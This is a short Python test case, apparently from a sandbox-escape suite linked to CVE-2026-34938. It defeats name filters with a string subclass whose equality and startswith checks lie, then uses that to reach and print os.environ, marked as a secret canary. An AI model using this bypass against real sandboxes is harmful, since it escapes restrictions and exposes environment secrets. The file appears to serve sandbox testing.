"""Fool a comparison of names with a text that lies.

family: classes
canary: secret
stops: full, container
root: no
related: CVE-2026-34938
"""


class Name(str):
    __hash__ = str.__hash__

    def __eq__(self, other):
        return True

    def startswith(self, *_):
        return False


print(getattr(__import__("os"), Name("environ")))
